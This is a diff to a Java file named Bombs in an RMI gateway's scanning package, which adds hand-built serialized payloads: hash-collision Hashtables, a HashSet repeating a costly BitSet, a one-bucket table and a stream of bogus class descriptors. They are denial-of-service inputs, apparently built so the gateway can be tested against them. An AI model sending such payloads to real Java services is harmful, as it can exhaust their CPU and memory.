@@ -3,6 +3,7 @@ package io.rmigate.gateway.scan;
 import io.rmigate.gateway.scan.shape.Shape;
 import io.rmigate.gateway.scan.shape.Shapes;
 import io.rmigate.protocol.jrmp.Jrmp;
+import io.rmigate.protocol.jrmp.StreamClass.Field;
 import java.io.ObjectStreamConstants;
 import java.nio.ByteBuffer;
 import java.util.Arrays;
@@ -10,6 +11,7 @@ import java.util.HexFormat;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.stream.IntStream;
 
 /** Calls that are short to send and long, or large, to read. */
 public final class Bombs {
@@ -61,6 +63,88 @@ public final class Bombs {
     ByteBuffer bytes = ByteBuffer.allocate(4 * numbers.length);
     Arrays.stream(numbers).forEach(bytes::putInt);
     return bytes.array();
+  }
+
+  /** A set that is told again and again of the same object, which is long to hash. */
+  static byte[] setOfOneLongKey(int longs, int times) {
+    HandWritten call = HandWritten.call();
+    call.object().descriptor(shape("java.util.BitSet")).nothing();
+    int bits = call.handles();
+    call.data();
+    call.array().descriptor("[J", 0x782004b512b17593L, 2, List.of()).nothing().data();
+    call.int32(longs).raw(new byte[Long.BYTES * (longs - 1)]).int64(1).end();
+    call.object().descriptor(shape("java.util.HashSet")).nothing().data();
+    call.block(size(16, 0x3F400000, times));
+    for (int i = 0; i < times; i++) {
+      call.reference(bits);
+    }
+    return call.end().toByteArray();
+  }
+
+  /** A Hashtable with strings of one hash code for keys. */
+  static byte[] tableOfAlike(int count) {
+    HandWritten call = HandWritten.call().string("value");
+    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
+    call.int32(0x3F400000).int32(12).block(size(2 * count + 1, count));
+    for (int i = 0; i < count; i++) {
+      call.string(alike(i)).reference(0);
+    }
+    return call.end().toByteArray();
+  }
+
+  /** The same, of which the keys are referred to where they are not hashed yet. */
+  static byte[] tableOfReferences(int count) {
+    HandWritten call = HandWritten.call().string("value");
+    for (int i = 0; i < count; i++) {
+      call.string(alike(i));
+    }
+    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
+    call.int32(0x3F400000).int32(12).block(size(2 * count + 1, count));
+    for (int i = 0; i < count; i++) {
+      call.reference(i + 1).reference(0);
+    }
+    return call.end().toByteArray();
+  }
+
+  /** A Hashtable that has one place for all its keys, as JDK 8 believes. */
+  static byte[] tableOfOnePlace(int count) {
+    HandWritten call = HandWritten.call().string("value");
+    call.object().descriptor(shape("java.util.Hashtable")).nothing().data();
+    call.int32(0x3F400000).int32(12).block(size(1, count));
+    for (int i = 0; i < count; i++) {
+      call.string("key " + i).reference(0);
+    }
+    return call.end().toByteArray();
+  }
+
+  /** So many strings have the same hash code. */
+  static String alike(int number) {
+    StringBuilder text = new StringBuilder();
+    for (int bit = 0; bit < 17; bit++) {
+      text.append((number >> bit & 1) == 0 ? "Aa" : "BB");
+    }
+    return text.toString();
+  }
+
+  /** The names of {@link #lieBehind}'s classes. */
+  public static List<String> foreignClasses(int count) {
+    return IntStream.range(0, count).mapToObj("com.acme.legacy.Opaque%05d"::formatted).toList();
+  }
+
+  /** Class objects of so many classes, and a RemoteObject that claims to have fields. */
+  public static byte[] lieBehind(int classes) {
+    HandWritten call = HandWritten.call();
+    for (String name : foreignClasses(classes)) {
+      call.hex("76").descriptor(name, 1, 2, List.of()).nothing().data();
+    }
+    Shape remote = shape(Stubs.REMOTE_OBJECT);
+    List<Field> fields = List.of(new Field("lie", "J"));
+    call.object()
+        .descriptor(shape(Stubs.HANDLER))
+        .descriptor(remote.name(), remote.serialVersionUid(), 3, fields)
+        .nothing()
+        .data();
+    return call.int64(0).end().toByteArray();
   }
 
   /** A HashMap whose one key is the argument of a Call. */
